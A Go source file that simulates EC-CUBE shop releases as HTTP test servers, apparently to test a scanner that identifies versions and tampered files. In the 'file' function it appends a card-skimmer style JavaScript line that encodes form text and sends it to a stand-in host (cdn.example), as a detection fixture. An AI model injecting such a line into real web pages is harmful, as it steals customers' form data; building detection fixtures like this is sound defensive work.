package main

import (
	"bytes"
	"fmt"
	"hash/fnv"
	"net/http"
	"path"
	"regexp"
	"slices"
	"strings"
	"sync/atomic"
)

// release is one stable release and the clone that has it.
type release struct {
	name, tag string
	clone     *clone
	files     map[string]string // of the package, with their objects
	class     string            // equal for releases that give out the same bytes
	skimmed   string            // core script that somebody added a line to, "" for none
}

func (r *release) major() int { return int(r.name[0] - '0') }

// shop serves one release. It counts requests.
type shop struct {
	release  *release
	scenario scenario
	base     string // of pages
	public   string // of the public folder
	pages    map[string]string
	requests atomic.Int64
	log      []string // of answers, when verbose
	verbose  bool
}

// newShop installs a release: the installer is run and deleted, the theme is the release's own.
func newShop(r *release, s scenario) (*shop, error) {
	h := &shop{release: r, scenario: s, base: s.folder, public: s.folder}
	if r.major() >= 4 || s.packageRoot {
		h.public += "html/"
	}
	if r.major() < 3 {
		h.base = h.public
	}
	var err error
	h.pages, err = h.render()
	return h, err
}

// Addresses of pages below the base, by the names of templates; the second is that of 3.x and later.
var pageAddresses = map[string][2]string{
	"home": {"", ""}, "list": {"products/list.php", "products/list"}, "detail": {"products/detail.php", "products/detail/1"},
	"login": {"mypage/login.php", "mypage/login"}, "contact": {"contact/index.php", "contact"}, "entry": {"entry/kiyaku.php", "entry"},
	"cart": {"cart/index.php", "cart"}, "forgot": {"forgot/index.php", "forgot"},
}

var pageTemplates = map[string][]string{
	"home": {"index.twig", "index.tpl", "top.tpl"}, "list": {"Product/list.twig", "products/list.tpl", "list.tpl"},
	"detail": {"Product/detail.twig", "products/detail.tpl", "detail.tpl"}, "login": {"Mypage/login.twig", "mypage/login.tpl"},
	"contact": {"Contact/index.twig", "contact/index.tpl"}, "entry": {"Entry/index.twig", "entry/kiyaku.tpl"},
	"cart": {"Cart/index.twig", "cart/index.tpl"}, "forgot": {"Forgot/index.twig", "forgot/index.tpl"},
}

// template is the text of the first of the named templates that the release has.
func (h *shop) template(names ...string) (string, error) {
	for _, name := range names {
		for _, folder := range []string{
			"src/Eccube/Resource/template/default/", "data/Smarty/templates/default/", "data/Smarty/templates/",
			"html/install/user_data/templates/", "html/install/user_data/include/",
		} {
			if id, ok := h.release.files[folder+name]; ok {
				text, err := h.release.clone.blob(id)
				return string(text), err
			}
		}
	}
	return "", nil
}

// render makes the public pages: the frame with header, page and footer in it.
func (h *shop) render() (map[string]string, error) {
	r := &renderer{base: h.base, public: h.public, version: h.release.name, seed: h.scenario.name, names: map[string]string{
		"product_list": "products/list", "product_detail": "products/detail/1", "mypage_login": "mypage/login", "cart": "cart",
		"contact": "contact", "entry": "entry", "forgot": "forgot", "homepage": "", "top": "", "mypage": "mypage",
	}}
	var parts [4]string
	for i, names := range [4][]string{
		{"default_frame.twig", "site_frame.tpl"}, {"Block/header.twig", "Block/logo.twig", "header.tpl"}, {"Block/footer.twig", "footer.tpl"}, {"site_main.tpl"},
	} {
		text, err := h.template(names...)
		if err != nil {
			return nil, err
		}
		parts[i] = r.render(text)
	}
	pages := map[string]string{}
	for name, address := range pageAddresses {
		if h.scenario.homeOnly && name != "home" {
			continue
		}
		body, err := h.template(pageTemplates[name]...)
		if err != nil {
			return nil, err
		}
		head, tail := parts[0], ""
		if at := strings.LastIndex(head, "</body>"); at >= 0 {
			head, tail = head[:at], head[at:]
		}
		at := address[min(1, h.release.major()/3)]
		page := head + parts[1] + parts[3] + r.render(body) + parts[2] + tail
		if h.scenario.ownTheme {
			page = "<html>" + strings.Join(addressTag.FindAllString(page, -1), "\n") + "</html>"
		}
		if h.scenario.delivery == "hash" {
			page = assetName.ReplaceAllString(page, "$1-0123456789abcdef$2")
		}
		pages[h.base+at] = page
	}
	return pages, nil
}

func (h *shop) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	h.requests.Add(1)
	if page, ok := h.pages[r.URL.Path]; ok {
		h.note("%s page", r.URL.Path)
		w.Header().Set("Content-Type", "text/html; charset=UTF-8")
		switch h.release.major() {
		case 1:
			w.Header().Set("Set-Cookie", "PHPSESSID=0123; path=/")
		case 2:
			w.Header().Set("Set-Cookie", "ECSESSID=0123; path=/")
		case 3, 4:
			w.Header().Set("Set-Cookie", "eccube=0123; path=/; HttpOnly")
		}
		_, _ = w.Write([]byte(page)) // the scanner may stop reading
		return
	}
	at := r.URL.Path
	if h.scenario.delivery == "hash" && fingerprint.MatchString(at) {
		at = fingerprint.ReplaceAllString(at, "$1")
	} else if ext := path.Ext(at); h.scenario.delivery == "hash" && (ext == ".js" || ext == ".css" || ext == ".png" || ext == ".gif") {
		http.Error(w, "404 Not Found", http.StatusNotFound)
		return
	}
	body, ok := h.file(at)
	h.note("%s %t", r.URL.Path, ok)
	if !ok {
		http.Error(w, "404 Not Found", http.StatusNotFound)
		return
	}
	w.Header().Set("Content-Type", "application/octet-stream")
	_, _ = w.Write(body)
}

// note logs an answer. Identification asks for one thing at a time.
func (h *shop) note(format string, a ...any) {
	if h.verbose {
		h.log = append(h.log, fmt.Sprintf(format, a...))
	}
}

// file is what the shop gives out at a path, after what happened to it.
func (h *shop) file(at string) ([]byte, bool) {
	name := h.packaged(at)
	id, ok := h.release.files[name]
	if rest, user := strings.CutPrefix(name, "html/user_data/"); !ok && user {
		id, ok = h.release.files["html/install/user_data/"+rest] // copied by the installer of 1.x
	}
	if !ok || h.hidden(name) || h.chance("lost", name) < h.scenario.missing {
		return nil, false
	}
	body, err := h.release.clone.blob(id)
	if err != nil {
		return nil, false
	}
	ext := path.Ext(name)
	if (ext == ".js" || ext == ".css") && h.chance("edited", name) < h.scenario.edited {
		body = append(slices.Clip(bytes.Clone(body)), []byte("\nshop {}\n")...)
	}
	if name == h.release.skimmed {
		body = append(slices.Clip(bytes.Clone(body)), []byte("\n;new Image().src='https://cdn.example/p?'+btoa(document.forms[0].innerText);\n")...)
	}
	if ext == ".js" || ext == ".css" {
		body = h.delivered(body, ext)
	}
	if h.scenario.crlf && slices.Contains([]string{".js", ".css", ".html", ".txt", ".scss", ".map"}, ext) {
		body = bytes.ReplaceAll(bytes.ReplaceAll(body, []byte("\r\n"), []byte("\n")), []byte("\n"), []byte("\r\n"))
	}
	return body, true
}

var (
	blockComment = regexp.MustCompile(`(?ms)^[ \t]*/\*.*?\*/`)
	wholeLine    = regexp.MustCompile(`(?m)^[ \t]*//[^\n]*$`)
	space        = regexp.MustCompile(`[ \t]*\n\s*`)
	variable     = regexp.MustCompile(`\b(var|function) +(\w+)`)
	scriptName   = regexp.MustCompile(`<script [^>]*src="([^"?]*)`)
	fingerprint  = regexp.MustCompile(`-0123456789abcdef(\.\w+)$`)
	addressTag   = regexp.MustCompile(`<(?:link|script|img|a) [^>]*(?:src|href)="[^"]*"[^>]*>`)
	assetName    = regexp.MustCompile(`((?:src|href)="[^"]*)(\.(?:js|css|png|gif)")`)
)

// coreScript is one that the first page loads, "" for none.
func (h *shop) coreScript(core []*regexp.Regexp) string {
	best := ""
	for _, m := range scriptName.FindAllStringSubmatch(h.pages[h.base], -1) {
		name := h.packaged(m[1])
		isCore := slices.ContainsFunc(core, func(re *regexp.Regexp) bool { return re.MatchString(name) })
		if _, there := h.file(m[1]); there && isCore && (best == "" || h.chance("skimmed", name) < h.chance("skimmed", best)) {
			best = name
		}
	}
	return best
}

// delivered is a script or style sheet after what the server does to it.
func (h *shop) delivered(body []byte, ext string) []byte {
	text := string(body)
	switch h.scenario.delivery {
	case "minify":
		text = strings.ReplaceAll(text, "\r\n", "\n")
		text = blockComment.ReplaceAllString(text, "")
		if ext == ".js" {
			text = wholeLine.ReplaceAllString(text, "")
		}
		text = space.ReplaceAllString(text, "\n")
	case "mark":
		text = "\ufeff" + text
	case "comment":
		text = "/* optimised by cdn */\n" + text
	case "rename":
		text = variable.ReplaceAllString(text, "$1 a_$2")
		if ext == ".css" {
			text += "\n.cdn{}"
		}
	}
	return []byte(text)
}

// packaged is the file of the package behind an address.
func (h *shop) packaged(at string) string {
	if rest, ok := strings.CutPrefix(at, h.public); ok {
		return "html/" + rest
	}
	return strings.TrimPrefix(at, h.scenario.folder)
}

// hidden files are run, denied by the server's rules, or deleted after installation.
func (h *shop) hidden(name string) bool {
	if !strings.HasPrefix(name, "html/") || strings.HasPrefix(name, "html/install/") || strings.HasPrefix(name, "html/test/") {
		return true
	}
	return path.Ext(name) == ".php" || path.Ext(name) == ".tpl" || strings.HasPrefix(path.Base(name), ".")
}

// chance is a number below 1 that is always the same for a file of a release in a scenario.
func (h *shop) chance(what, name string) float64 {
	f := fnv.New64a()
	_, _ = f.Write([]byte(what + "\x00" + h.scenario.name + "\x00" + h.release.name + "\x00" + name))
	const fine = 1 << 20
	x := f.Sum64()
	x ^= x >> 33
	x *= 0xff51afd7ed558ccd
	x ^= x >> 33
	return float64(x%fine) / fine
}
